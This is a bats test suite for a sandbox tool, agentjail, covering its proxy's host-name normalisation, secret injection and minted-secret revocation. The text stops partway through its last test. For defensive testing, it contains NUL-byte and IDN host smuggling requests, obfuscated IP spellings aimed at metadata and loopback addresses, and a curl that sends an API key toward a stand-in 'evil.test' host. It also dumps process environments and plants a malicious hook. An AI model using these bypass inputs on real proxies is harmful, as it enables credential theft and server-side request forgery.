#!/usr/bin/env bats
# Secrets a sandbox can use but not read (--secret NAME@HOSTS=VALUE), and
# the one host-name normaliser the proxy judges names with, in the fake
# world of world.bash: the web servers on TEST-NET addresses append every
# request they get to $WEB_LOG (outside the sandbox), so a test sees what
# left agentjail's proxy. allowed.test and sub.wild.test are 192.0.2.10,
# other.test is 203.0.113.10. Nothing here sends a packet to a real address.

load ../integration/helpers
load world

setup_file() { world_setup_file; }
# the records of minted secrets (and the runs' sweeps) in the test's own
# state directory, never the host's /var/lib/agentjail
setup() {
    world_setup
    export AGENTJAIL_STATE_DIR=$T/state
}
teardown() { world_teardown; }

arun() {
    run --separate-stderr hrun --dns 192.0.2.53 "$@"
}

# raw 'REQUEST' (Python escapes: \x00, \r\n) to the proxy at the sandbox's
# gateway: prints the status line of the answer
RAW='raw() { python3 -c "import codecs,socket,sys; s=socket.create_connection((sys.argv[1], 3128)); s.sendall(codecs.escape_decode(sys.argv[2])[0]); print(s.recv(200).split(b\"\\r\\n\")[0].decode())" "$(sed -n "s/^nameserver //p" /etc/resolv.conf)" "$1"; }'

@test "proxy: host names are normalised one way; NUL, IDN, look-alikes and CONNECT/Host mismatches are refused" {
    arun --allow allowed.test --allow 192.0.2.10/32 -- sh -c "$RAW"'
        echo "nul-connect $(raw "CONNECT evil\x00.allowed.test:443 HTTP/1.1\r\n\r\n")"
        echo "nul-host $(raw "GET / HTTP/1.1\r\nHost: evil\x00.allowed.test\r\n\r\n")"
        echo "nul-url $(raw "GET http://evil\x00.allowed.test/ HTTP/1.1\r\n\r\n")"
        echo "idn-host $(raw "GET / HTTP/1.1\r\nHost: b\xc3\xbccher.allowed.test\r\n\r\n")"
        echo "empty-label $(raw "GET http://allowed..test/ HTTP/1.1\r\n\r\n")"
        echo "two-dots $(raw "GET http://allowed.test../ HTTP/1.1\r\n\r\n")"
        echo "upper-dot $(raw "GET http://ALLOWED.TEST./ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")"
        echo "host-dot $(raw "GET http://allowed.test/ HTTP/1.1\r\nHost: Allowed.Test.\r\n\r\n")"
        echo "suffix $(raw "GET http://allowed.test.evil.test/ HTTP/1.1\r\n\r\n")"
        echo "host-suffix $(raw "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test.evil.test\r\n\r\n")"
        echo "connect-host-other $(raw "CONNECT allowed.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")"
        echo "connect-host-port $(raw "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:8443\r\n\r\n")"
        echo "connect-host-same $(raw "CONNECT ALLOWED.test.:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")"
        echo "octal $(raw "GET http://0300.0.2.012/ HTTP/1.1\r\n\r\n")"
        echo "hex $(raw "GET http://0xc000020a/ HTTP/1.1\r\n\r\n")"
        echo "meta-octal $(raw "GET http://0251.0376.0251.0376/ HTTP/1.1\r\n\r\n")"
        echo "loop-decimal $(raw "GET http://2130706433/ HTTP/1.1\r\n\r\n")"
        echo "five-parts $(raw "GET http://192.0.2.10.1/ HTTP/1.1\r\n\r\n")"'
    assert_status 0
    local k
    for k in nul-connect nul-host nul-url idn-host empty-label two-dots host-suffix \
        connect-host-other connect-host-port five-parts; do
        assert_output_has_line "$k HTTP/1.1 400 Bad Request"
    done
    for k in suffix meta-octal loop-decimal; do
        assert_output_has_line "$k HTTP/1.1 403 Forbidden"
    done
    # the same host in other spellings: served (Python's server answers 1.0)
    for k in upper-dot host-dot octal hex; do
        assert_output_has_line "$k HTTP/1.0 200 OK"
    done
    assert_output_has_line "connect-host-same HTTP/1.1 200 Connection established"
    [ "$(dns_seen 'evil')" -eq 0 ] || fail "the proxy resolved a refused name: $(cat "$DNS_LOG")"
    # nothing but allowed.test/192.0.2.10 was reached
    [ "$(jq -c 'select(.addr != "192.0.2.10")' "$WEB_LOG" | wc -l)" -eq 0 ] || fail "$(cat "$WEB_LOG")"
}

@test "--secret NAME@HOSTS: the proxy puts the value in toward its hosts only; it is never inside" {
    local value='sk-live-Zq8!x&y=1'
    arun --allow allowed.test --allow other.test --allow '*.wild.test' \
        --secret "API_KEY@allowed.test,*.wild.test=$value" --secret PLAIN=plain-value-123 \
        --net-log "$T/net.jsonl" -- sh -c '
        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" -H "x-api-key: $API_KEY" \
            "http://allowed.test/a?key=$API_KEY&n=1"
        curl -sS -m 5 -o /dev/null -u "user:$API_KEY" http://sub.wild.test/b
        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" -H "x-plain: $PLAIN" \
            "http://other.test/c?key=$API_KEY"
        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $API_KEY" http://wild.test.evil.test/d
        env >/workspace/env.txt; cat /proc/[0-9]*/environ >/workspace/environ 2>/dev/null
        echo "$API_KEY" >/workspace/key.txt; echo "inside: $API_KEY"'
    assert_status 0
    local ph
    ph=$(cat "$WS/key.txt")
    [[ "$ph" == agentjail-placeholder-API_KEY-* ]] || fail "not a placeholder: $ph"
    req() { jq -c "select(.path | startswith(\"$1\"))" "$WEB_LOG"; }
    # toward its host: the value in every header, in the query (percent-encoded)
    [ "$(req /a | jq -r '.headers.Authorization')" = "Bearer $value" ] || fail "/a: $(req /a)"
    [ "$(req /a | jq -r '.headers["x-api-key"]')" = "$value" ] || fail "/a x-api-key: $(req /a)"
    [ "$(req /a | jq -r '.path')" = "/a?key=sk-live-Zq8%21x%26y%3D1&n=1" ] || fail "/a query: $(req /a)"
    # Basic credentials: base64 of user:value, toward a *.wild.test name
    [ "$(req /b | jq -r '.headers.Authorization')" = "Basic $(printf 'user:%s' "$value" | base64 -w0)" ] ||
        fail "/b: $(req /b)"
    # toward another allowed host: the placeholder, as the sandbox wrote it
    [ "$(req /c | jq -r '.headers.Authorization')" = "Bearer $ph" ] || fail "/c: $(req /c)"
    [ "$(req /c | jq -r '.path')" = "/c?key=$ph" ] || fail "/c query: $(req /c)"
    [[ "$(req /c | jq -r '.headers["x-plain"]')" == agentjail-placeholder-PLAIN-* ]] || fail "/c plain: $(req /c)"
    [ -z "$(req /d)" ] || fail "a refused host was reached: $(req /d)"
    # the log names what was put in and what was withheld, never the value
    q() { jq -c "select($1)" "$T/net.jsonl" | wc -l; }
    [ "$(q '.event == "secret_injected" and .secret == "API_KEY" and .host == "allowed.test"')" -eq 3 ] ||
        fail "injected: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "secret_injected" and .secret == "API_KEY" and .host == "sub.wild.test"')" -eq 1 ] ||
        fail "injected (Basic): $(cat "$T/net.jsonl")"
    [ "$(q '.event == "secret_withheld" and .secret == "API_KEY" and .host == "other.test"')" -eq 2 ] ||
        fail "withheld: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "secret_withheld" and .secret == "PLAIN" and .host == "other.test"')" -eq 1 ] ||
        fail "withheld (unscoped): $(cat "$T/net.jsonl")"
    # the value is nowhere inside, nor in the log or the output
    ! grep -rlF -e "$value" -e "plain-value-123" "$WS" "$T/net.jsonl" || fail "a value leaked into the files above"
    [[ "$output$stderr" != *"$value"* && "$output$stderr" != *"Zq8"* ]] || fail "the value in the output"
    assert_output_has_line "inside: $ph"
    grep -q "^API_KEY=$ph\$" "$WS/env.txt" || fail "env: $(cat "$WS/env.txt")"
}

@test "--secret NAME@HOSTS: hosts outside --allow, without --allow, and bad hosts fail with the fix" {
    arun --allow other.test --secret 'K@allowed.test=value-123' -- true
    assert_status 125
    [[ "$stderr" == *"its host allowed.test is not in the --allow list"* ]] || fail "$stderr"
    [[ "$stderr" == *"--allow 'allowed.test'"* ]] || fail "no fix: $stderr"
    arun --allow '*.wild.test' --allow allowed.test --secret 'K@*.sub.wild.test,allowed.test=value-123' -- true
    assert_status 0 # *.wild.test covers *.sub.wild.test
    run --separate-stderr hrun --secret 'K@allowed.test=value-123' -- true
    assert_status 125
    [[ "$stderr" == *"needs a network with agentjail's proxy"* && "$stderr" == *"--net open"* ]] || fail "$stderr"
    arun --allow allowed.test --inspect other.test -- true
    assert_status 125
    [[ "$stderr" == *"--inspect other.test: the host is not in the --allow list"* ]] || fail "$stderr"
    arun --allow allowed.test --secret 'K@allowed.test:bdy=value-123' -- true
    assert_status 125
    local bad
    for bad in 'K@=value-123' 'K@allowed..test=value-123' 'K@*.test=value-123' 'K@evil%00.test=value-123' \
        $'K@b\xc3\xbccher.test=value-123' $'K@evil\x01.allowed.test=value-123' 'K@192.0.2.10.1=value-123'; do
        arun --allow allowed.test --secret "$bad" -- true
        [ "$status" -eq 125 ] || fail "--secret '$bad': status $status"
        [[ "$stderr" != *value-123* ]] || fail "--secret '$bad': the value in the error: $stderr"
    done
}

@test "--secret-mint: a run's scoped secret is minted for it, used toward its host, revoked at its end; a failing hook stops the run" {
    local hook=$T/mint.sh log=$T/mint.log
    cat >"$hook" <<EOS
#!/bin/sh
v=\$(cat)
echo "\$1 \$AGENTJAIL_SECRET \$AGENTJAIL_SECRET_HOSTS \$AGENTJAIL_SANDBOX stdin=\$v" >>"$log"
[ -e "$T/refuse" ] && exit 7
[ -e "$T/short" ] && [ "\$1" = mint ] && echo ab && exit 0
[ "\$1" = mint ] && echo "run-token-\$AGENTJAIL_SANDBOX"
exit 0
EOS
    chmod 755 "$hook"
    arun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- \
        sh -c 'curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $K" http://allowed.test/m; echo "inside: $K"'
    assert_status 0
    local id
    id=$(sed -n '1s/^mint K allowed.test \(run-[0-9]*-[0-9a-f]\{16\}\) stdin=long-lived-123$/\1/p' "$log")
    [ -n "$id" ] || fail "hook: $(cat "$log")"
    [ "$(sed -n 2p "$log")" = "revoke K allowed.test $id stdin=run-token-$id" ] || fail "hook: $(cat "$log")"
    local recs=${AGENTJAIL_STATE_DIR:-/var/lib/agentjail}/minted
    [ ! -e "$recs/$id.json" ] || fail "its record is left"
    [ "$(jq -r 'select(.path == "/m") | .headers.Authorization' "$WEB_LOG")" = "Bearer run-token-$id" ] ||
        fail "$(cat "$WEB_LOG")"
    [[ "$output$stderr" != *run-token-* && "$output$stderr" != *long-lived-123* ]] || fail "a value in the output"
    # a hook that fails may have had the issuer issue first: it is revoked
    # too, with an empty stdin, and kept in its record while that fails
    # (the old code dropped it)
    touch "$T/refuse"
    : >"$log"
    arun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- touch "$WS/ran"
    assert_status 125
    [[ "$stderr" == *"the mint hook $hook mint for secret K failed (exit status 7)"* ]] || fail "$stderr"
    [ ! -e "$WS/ran" ] || fail "the command ran"
    local rid sid
    rid=$(sed -n 's/^mint K allowed.test \(run-[^ ]*\) .*/\1/p' "$log")
    grep -qx "revoke K allowed.test $rid stdin=" "$log" && [ -e "$recs/$rid.json" ] ||
        fail "hook: $(cat "$log"); $(ls -la "$recs")"
    # a minted value too short to redact is refused, as --secret's (and
    # revoked); this run's sweep revokes the one kept above
    rm "$T/refuse"
    touch "$T/short"
    arun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- touch "$WS/ran"
    assert_status 125
    [[ "$stderr" == *"a value of at least 4 characters is needed"* ]] || fail "$stderr"
    [ ! -e "$WS/ran" ] || fail "the command ran"
    sid=$(sed -n 's/^mint K allowed.test \(run-[^ ]*\) .*/\1/p' "$log" | tail -n 1)
    [ "$(grep -c "^revoke K allowed.test $rid stdin=\$" "$log") $(tail -n 1 "$log")" = "2 revoke K allowed.test $sid stdin=" ] &&
        [ -z "$(ls -A "$recs")" ] || fail "hook: $(cat "$log"); $(ls -la "$recs")"
    # a SIGKILLed run: its revoker (a child in its own session, /dev/null as
    # stdio) revokes what it minted, then is gone (the old code revoked nothing)
    rm "$T/short"
    : >"$log"
    hrun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- \
        sh -c "touch /workspace/up; exec sleep 30" >/dev/null 2>&1 &
    AJ_BG_PID=$!
    local i pid rv
    for ((i = 0; i < 200; i++)); do [ -e "$WS/up" ] && break; sleep 0.05; done
    id=$(sed -n '1s/^mint K allowed.test \(run-[0-9]*-[0-9a-f]\{16\}\) stdin=long-lived-123$/\1/p' "$log")
    pid=${id#run-}
    pid=${pid%-*}
    [ -n "$pid" ] && [ -e "$WS/up" ] || fail "not started; hook: $(cat "$log")"
    rv=$(pgrep -P "$pid" -x aj-revoke) || rv=''
    local fds=''
    [ -z "$rv" ] || fds="$(ps -o sid= -p "$rv" | tr -d ' ') $(readlink "/proc/$rv/fd/0" "/proc/$rv/fd/1" "/proc/$rv/fd/2" | tr '\n' ' ')"
    kill -KILL "$pid"
    wait "$AJ_BG_PID" || true
    AJ_BG_PID=
    for ((i = 0; i < 100; i++)); do grep -q '^revoke' "$log" && ! kill -0 "$rv" 2>/dev/null && break; sleep 0.05; done
    [ "$(sed -n 2p "$log")" = "revoke K allowed.test $id stdin=run-token-$id" ] || fail "no revoke: $(cat "$log")"
    [ -n "$rv" ] || fail "no revoker child of $pid"
    [ "$fds" = "$rv /dev/null /dev/null /dev/null " ] || fail "the revoker's session and stdio: $fds"
    ! kill -0 "$rv" 2>/dev/null || fail "the revoker outlived its revoke"
    [ ! -e "$recs/$id.json" ] || fail "the revoker left its record"
    arun --allow allowed.test -- true # the next run sweeps the killed one's cgroup and table
    assert_status 0
}

# In a private mount namespace: /dev as it is plus a /dev/log of the test's
# own (a unix datagram socket whose lines go to $SYSLOG), then "$@"; once
# it has ended, waits (5 s at most) for a line.
with_fake_syslog() {
    SYSLOG=$T/syslog.txt FAKEDEV=$T/fakedev unshare -m --propagation private bash -c '
        set -e
        mkdir -p "$FAKEDEV" && mount -t tmpfs -o mode=755 fakedev "$FAKEDEV"
        for f in /dev/*; do
            n=${f#/dev/}
            if [ -L "$f" ]; then cp -P "$f" "$FAKEDEV/$n"
            elif [ -d "$f" ]; then mkdir "$FAKEDEV/$n" && mount --rbind "$f" "$FAKEDEV/$n"
            else touch "$FAKEDEV/$n" && mount --bind "$f" "$FAKEDEV/$n"; fi
        done
        python3 -c "import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind(sys.argv[1])
open(sys.argv[2], \"w\").close()
s.settimeout(30)
while True:
    with open(sys.argv[2], \"ab\") as f:
        f.write(s.recv(4096) + b\"\n\")" "$FAKEDEV/log" "$SYSLOG" &
        until [ -e "$SYSLOG" ]; do sleep 0.02; done
        mount --move "$FAKEDEV" /dev
        "$@" || rc=$?
        for i in $(seq 100); do [ -s "$SYSLOG" ] && break; sleep 0.05; done
        kill $! && wait $! 2>/dev/null || true
        exit ${rc:-0}' fake-syslog "$@"
}

# A run of "$@" where this boot's id cannot be read
no_boot_id() {
    unshare -m --propagation private bash -c 'mount --bind /dev/null /proc/sys/kernel/random/boot_id && "$@"' no-boot-id "$@"
}

@test "--secret-mint: a run killed with its revoker is revoked by the next start, once; a revoke the revoker failed is in syslog and its record" {
    local hook=$T/mint.sh log=$T/mint.log dir=$T/state/minted
    cat >"$hook" <<EOS
#!/bin/sh
v=\$(cat)
echo "\$1 \$AGENTJAIL_SECRET \$AGENTJAIL_SECRET_HOSTS \$AGENTJAIL_SANDBOX stdin=\$v" >>"$log"
[ "\$1" = revoke ] && env >"$T/revoke.env"
[ "\$1" = revoke ] && [ -e "$T/hang" ] && exec sleep 30
[ "\$1" = revoke ] && [ -e "$T/issuer-down" ] && { echo "the issuer is down" >&2; exit 4; }
[ "\$1" = revoke ] && [ -e "$T/slow" ] && sleep 1
[ "\$1" = mint ] && echo "run-token-\$AGENTJAIL_SANDBOX"
exit 0
EOS
    chmod 755 "$hook"
    # RUN ...: a run in the background, its command up; sets id, pid and rv (its revoker)
    start_run() {
        rm -f "$WS/up"
        : >"$log"
        "$@" timeout -k 5 "$AJ_TIMEOUT" nsenter --net="/run/netns/$HNS" "$AJ" run -q --workspace "$WS" \
            --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- \
            sh -c "touch /workspace/up; exec sleep 30" >/dev/null 2>&1 &
        AJ_BG_PID=$!
        local i
        for ((i = 0; i < 200; i++)); do [ -e "$WS/up" ] && break; sleep 0.05; done
        id=$(sed -n '1s/^mint K allowed.test \(run-[0-9]*\(-[0-9a-f]\{16\}\)\?\) stdin=long-lived-123$/\1/p' "$log")
        pid=${id#run-}
        pid=${pid%%-*}
        [ -n "$id" ] && [ -e "$WS/up" ] || fail "not started; hook: $(cat "$log")"
        rv=$(pgrep -P "$pid" -x aj-revoke) || fail "no revoker"
    }
    local id pid rv rec
    # killed with its revoker: nothing revokes, the record stays (the old
    # code kept none: nothing ever revoked it)
    start_run
    rec=$dir/$id.json
    [ "$(stat -c %a "$dir") $(stat -c %a "$rec")" = "700 600" ] || fail "$(ls -la "$dir")"
    [ "$(jq -c '[.sandbox, .secrets, .hook, [.owner.pids[][0]]]' "$rec")" = \
        "[\"$id\",[{\"name\":\"K\",\"hosts\":[\"allowed.test\"]}],\"$hook\",[$pid,$rv]]" ] || fail "$(cat "$rec")"
    ! grep -qF -e long-lived-123 -e run-token "$rec" || fail "a value in the record"
    kill -KILL "$rv" "$pid"
    wait "$AJ_BG_PID" || true
    AJ_BG_PID=
    ! grep -q '^revoke' "$log" || fail "revoked: $(cat "$log")"
    "$AJ" doctor --json | jq -e '.[] | select(.name == "minted secrets" and .status == "warn") |
        .detail | contains("0 records of live runs and services, 1 of ones that are gone")' >/dev/null ||
        fail "doctor: $("$AJ" doctor --json | jq -c '.[] | select(.name == "minted secrets")')"
    # crash leftovers of record writers: gone (4194305: no pid is), too old,
    # and one of a live writer (this shell), which stays
    : >"$dir/.tmp-4194305-000000000000-a.json"
    touch -d '-5 min' "$dir/.tmp-$$-000000000000-b.json"
    : >"$dir/.tmp-$$-000000000000-c.json"
    # only the hook a start is given runs, never one a record names (the
    # old code ran any): without --secret-mint, or naming another program,
    # the record stays and the start says which hook it needs
    local other=run-1-0123456789abcdef evil=run-2-0123456789abcdef
    cp "$rec" "$T/rec.json"
    printf '#!/bin/sh\ntouch %s/pwned\n' "$T" >"$T/evil.sh"
    chmod 755 "$T/evil.sh"
    jq -c --arg h "$T/evil.sh" --arg s "$evil" '.sandbox = $s | .hook = $h' "$rec" >"$dir/$evil.json"
    jq -c --arg s "$other" '.sandbox = $s' "$rec" >"$dir/$other.json"
    chmod 600 "$dir/$evil.json" "$dir/$other.json"
    : >"$log"
    hrun --allow allowed.test -- true 2>"$T/err"
    grep -qF "names the mint hook $hook: it is kept for a run or serve started with --secret-mint $hook" "$T/err" ||
        fail "$(cat "$T/err")"
    # this boot's id unknown: the records are left alone, and no record
    # (so nothing) can be made (the old code took them as gone, and wrote
    # records without a boot)
    run --separate-stderr no_boot_id timeout -k 5 "$AJ_TIMEOUT" nsenter --net="/run/netns/$HNS" "$AJ" run -q --workspace "$WS" \
        --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- true
    assert_status 125
    [[ "$stderr" == *"this boot's id or pid namespace cannot be read: the records of minted secrets in $dir are left as they are"* &&
        "$stderr" == *"cannot read this boot's id, the pid namespace or a process's start time"* ]] || fail "$stderr"
    [ ! -s "$log" ] && [ "$(ls "$dir" | wc -l)" = 3 ] || fail "hook: $(cat "$log"); $(ls -la "$dir")"
    # two runs start at once (a revoke takes 1 s): one of them revokes,
    # with the record's hook, name, hosts and id, an empty stdin and only
    # PATH and the hook's variables in its environment (in the fake world:
    # they sweep the killed run's table too); not evil's
    touch "$T/slow"
    : >"$log"
    AJ_LEAK=leaked-value-987 hrun --allow allowed.test --secret-mint "$hook" -- true &
    local a=$!
    AJ_LEAK=leaked-value-987 hrun --allow allowed.test --secret-mint "$hook" -- true 2>"$T/err"
    wait "$a"
    rm "$T/slow"
    [ "$(sort "$log")" = "$(printf 'revoke K allowed.test %s stdin=\n' "$id" "$other" | sort)" ] ||
        fail "hook: $(cat "$log")"
    ! grep -q AJ_LEAK "$T/revoke.env" && grep -qx "AGENTJAIL_SECRET_HOSTS=allowed.test" "$T/revoke.env" ||
        fail "the hook's environment: $(cat "$T/revoke.env")"
    [ ! -e "$T/pwned" ] || fail "the record's own hook ran"
    [ "$(ls -A "$dir" | sort | tr '\n' ' ')" = ".tmp-$$-000000000000-c.json $evil.json " ] || fail "left: $(ls -la "$dir")"
    rm "$dir/.tmp-$$-000000000000-c.json" "$dir/$evil.json"
    # run killed, its revoker's revoke fails: one syslog line (authpriv.err)
    # per secret left live, and its record keeps it for the next start
    touch "$T/issuer-down"
    start_run with_fake_syslog
    kill -KILL "$pid"
    local i
    for ((i = 0; i < 100; i++)); do kill -0 "$rv" 2>/dev/null || break; sleep 0.05; done
    wait "$AJ_BG_PID" || true
    AJ_BG_PID=
    grep -qx "revoke K allowed.test $id stdin=run-token-$id" "$log" || fail "hook: $(cat "$log")"
    grep -qE "^<83>.*agentjail\[$rv\]: run $id: the minted secret K was not revoked after the run was killed \(the mint hook $hook revoke for secret K failed \(exit status 4\)\): its record is kept, the next agentjail run or serve that starts tries again$" "$T/syslog.txt" ||
        fail "syslog: $(cat "$T/syslog.txt")"
    ! grep -qF -e long-lived-123 -e run-token "$T/syslog.txt" || fail "a value in syslog"
    [ "$(jq -c '[.secrets[].name, .owner.pids[][0]]' "$dir/$id.json")" = "[\"K\",$rv]" ] || fail "$(cat "$dir/$id.json")"
    rm "$T/issuer-down"
    : >"$log"
    hrun --allow allowed.test --secret-mint "$hook" -- true
    [ "$(cat "$log")" = "revoke K allowed.test $id stdin=" ] && [ -z "$(ls -A "$dir")" ] ||
        fail "hook: $(cat "$log"); $(ls -la "$dir")"
    # a hook that is a symbolic link or writable by others is refused; so
    # is a state directory others can write to (the old code took them)
    cp "$hook" "$T/gw.sh"
    chmod 775 "$T/gw.sh"
    ln -s "$hook" "$T/link.sh"
    local h
    for h in "$T/gw.sh" "$T/link.sh"; do
        arun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$h" -- true
        assert_status 125
        [[ "$stderr" == *"--secret-mint '$h': expected an absolute path to an executable regular file (not a symbolic link) owned by root"* ]] ||
            fail "$h: $stderr"
    done
    mkdir -m 777 "$T/open"
    : >"$log"
    AGENTJAIL_STATE_DIR=$T/open arun --allow allowed.test --secret 'K@allowed.test=long-lived-123' --secret-mint "$hook" -- true
    assert_status 125
    [[ "$stderr" == *"the state directory $T/open is not owned by root or uid 0, or is writable by group or others"* ]] ||
        fail "$stderr"
    [ ! -s "$log" ] && [ ! -e "$T/open/minted" ] || fail "hook: $(cat "$log"); $(ls -la "$T/open")"
    # a start's sweep takes 10 s at most: of two records whose revoke hangs,
    # one is tried (10 s), the other left for the next start (the old code
    # waited 10 s for each)
    local r t0
    for r in run-3-0123456789abcdef run-4-0123456789abcdef; do
        jq -c --arg s "$r" '.sandbox = $s' "$T/rec.json" >"$dir/$r.json"
        chmod 600 "$dir/$r.json"
    done
    touch "$T/hang"
    t0=$(date +%s%N)
    hrun --allow allowed.test --secret-mint "$hook" -- true 2>"$T/err"
    t0=$((($(date +%s%N) - t0) / 1000000))
    [ "$t0" -lt 14000 ] && [ "$(grep -c '^revoke' "$log")" = 1 ] && [ "$(ls "$dir" | wc -l)" = 2 ] &&
        grep -qF "the sweep of $dir took its 10 s: what is left is for the next start" "$T/err" ||
        fail "$t0 ms; hook: $(cat "$log"); $(cat "$T/err"); $(ls -la "$dir")"
    rm "$T/hang" "$dir"/run-[34]-*.json
}

# 3 MiB of ("a" * (997 - len(PH)) + PH) units: a placeholder across every
# boundary of the proxy's reads, its 1 MiB hold and its spool's pieces
# (gen inside the sandbox is the same)
BIGGEN='import sys; k = sys.argv[1]; sys.stdout.write(("a" * (997 - len(sys.argv[2])) + k) * 3156)'

@test "plain HTTP: WebSocket upgrades, :body secrets (Content-Length, chunked, spooled, streamed, capped), Connection options, --net open through the proxy" {
    local value='sk-ws-Zq8!x&y=1' long
    long=$(printf 'L%.0s' {1..900})
    mkdir -p "$T/state"
    AGENTJAIL_STATE_DIR=$T/state AGENTJAIL_BODY_SPOOL_MAX=4M \
    arun --allow allowed.test --allow other.test --secret "K@allowed.test:body=$value" \
        --secret "L@allowed.test:body=$long" \
        --net-log "$T/net.jsonl" --ro "$NET_DIR/wsclient.py:/wsclient.py" -- sh -c '
        python3 /wsclient.py ws://allowed.test/ws-a hello -H "Authorization: Bearer $K"
        python3 /wsclient.py ws://other.test/ws-o hi -H "Authorization: Bearer $K"
        python3 /wsclient.py ws://allowed.test/nows-plain --then /after-nows-plain -H "Authorization: Bearer $K"
        curl -sS -m 5 -o /dev/null -d "key=$K&n=1" http://allowed.test/body-cl
        curl -sS -m 5 -o /dev/null -H "Transfer-Encoding: chunked" -d "key=$K" http://allowed.test/body-chunked
        curl -sS -m 5 -o /dev/null -d "key=$K" http://other.test/body-other
        curl -sS -m 5 -o /dev/null -H "Connection: X-Secret-Hdr" -H "X-Secret-Hdr: $K" \
            -H "X-Kept: $K" http://allowed.test/conn
        head -c 1100000 /dev/zero | curl -sS -m 10 --data-binary @- -H "X-Big: $K" -w "big %{http_code}\n" \
            -o /dev/null http://allowed.test/big
        gen() { python3 -c "import sys; k = sys.argv[1]; sys.stdout.write((\"a\" * (997 - len(sys.argv[2])) + k) * 3156)" "$@"; }
        gen "$K" "$K" >/tmp/b3
        curl -sS -m 20 -T /tmp/b3 -w "s3 %{http_code}\n" -o /dev/null http://allowed.test/s3-put
        curl -sS -m 20 -T /tmp/b3 -H "Transfer-Encoding: chunked" -w "s3c %{http_code}\n" \
            -o /dev/null http://allowed.test/s3-chunked
        curl -sS -m 20 --data-binary @/tmp/b3 -H "Transfer-Encoding: chunked" -w "b3c %{http_code}\n" \
            -o /dev/null http://allowed.test/big-chunked
        gen "$L" "$K" >/tmp/l3
        curl -sS -m 20 --data-binary @/tmp/l3 -H "X-Over: $K" -w "over %{http_code}\n" \
            -o /tmp/over.txt http://allowed.test/over-filled
        cat /tmp/over.txt
        head -c 5000000 /dev/zero | curl -sS -m 20 --data-binary @- -H "X-Over: $K" -w "over5 %{http_code}\n" \
            -o /dev/null http://allowed.test/over-length
        echo "inside: $K"'
    assert_status 0
    [ "$(grep -c '^ws 101$' <<<"$output")" -eq 2 ] || fail "two upgrades: $output"
    assert_output_has_line "echo hello"
    assert_output_has_line "echo hi"
    assert_output_has_line "big 200"
    assert_output_has_line "s3 200"
    assert_output_has_line "s3c 411"
    assert_output_has_line "b3c 200"
    assert_output_has_line "over 413"
    assert_output_has_line "over5 413"
    assert_output_has_line "agentjail proxy: allowed.test:80: the body with the secrets' values in it is larger than the 4 MiB a body with a :body secret is spooled up to (AGENTJAIL_BODY_SPOOL_MAX)"
    # the spool: unlinked files only, nothing left
    [ -z "$(ls -A "$T/state/spool")" ] || fail "left in the spool: $(ls -A "$T/state/spool")"
    # an upgrade the server declines: its answer relayed, then the
    # connection ends (one checked request per connection), nothing raw
    assert_output_has_line "ws 401"
    assert_output_has_line "then closed"
    [ -z "$(jq -c 'select(.path | test("after-nows"))' "$WEB_LOG")" ] || fail "$(cat "$WEB_LOG")"
    local ph
    ph=$(sed -n 's/^inside: //p' <<<"$output")
    [[ "$ph" == agentjail-placeholder-K-* ]] || fail "not a placeholder: $ph"
    req() { jq -c "select(.path == \"$1\")" "$WEB_LOG"; }
    [ "$(req /ws-a | jq -r '.headers.Authorization')" = "Bearer $value" ] || fail "/ws-a: $(req /ws-a)"
    [ "$(req /ws-a | jq -c '.ws')" = '["hello"]' ] || fail "/ws-a: $(req /ws-a)"
    [ "$(req /ws-o | jq -r '.headers.Authorization')" = "Bearer $ph" ] || fail "/ws-o: $(req /ws-o)"
    # bodies toward the secret's host: filled, the length rewritten
    [ "$(req /body-cl | jq -r '.body')" = "key=$value&n=1" ] || fail "/body-cl: $(req /body-cl)"
    [ "$(req /body-cl | jq -r '.headers["Content-Length"]')" = "$((${#value} + 8))" ] || fail "/body-cl length: $(req /body-cl)"
    [ "$(req /body-chunked | jq -r '.body')" = "key=$value" ] || fail "/body-chunked: $(req /body-chunked)"
    [ "$(req /body-other | jq -r '.body')" = "key=$ph" ] || fail "/body-other: $(req /body-other)"
    # the headers the client's Connection names stay at the proxy
    [ "$(req /conn | jq -r '.headers["X-Secret-Hdr"]')" = null ] || fail "/conn: $(req /conn)"
    [ "$(req /conn | jq -r '.headers["X-Kept"]')" = "$value" ] || fail "/conn: $(req /conn)"
    # over 1 MiB: a Content-Length body spooled and sent with its length
    # (a server that refuses chunked takes it), a chunked one streamed
    [ "$(req /big | jq -r '.headers["Content-Length"]')" = 1100000 ] || fail "/big: $(req /big)"
    [ "$(req /big | jq -r '.headers["X-Big"]')" = "$value" ] || fail "/big: $(req /big)"
    local want
    want=$(python3 -c "$BIGGEN" "$value" "$ph" | sha256sum | cut -d' ' -f1)
    for p in /s3-put /big-chunked; do
        [ "$(req $p | jq -r '.body_sha256')" = "$want" ] || fail "$p: not filled: $(req $p)"
    done
    [ "$(req /s3-put | jq -r '.headers["Content-Length"]')" = "$(python3 -c "$BIGGEN" "$value" "$ph" | wc -c)" ] ||
        fail "/s3-put: $(req /s3-put | jq -c .headers)"
    [ "$(req /s3-put | jq -r '.headers["Transfer-Encoding"]')" = null ] || fail "/s3-put: $(req /s3-put | jq -c .headers)"
    [ "$(req /s3-chunked | jq -r '.status')" = 411 ] || fail "/s3-chunked: $(req /s3-chunked | jq -c .headers)"
    [ "$(req /big-chunked | jq -r '.headers["Transfer-Encoding"]')" = chunked ] || fail "/big-chunked: not chunked"
    [ -z "$(req /over-filled)$(req /over-length)" ] || fail "a body over the cap was sent"
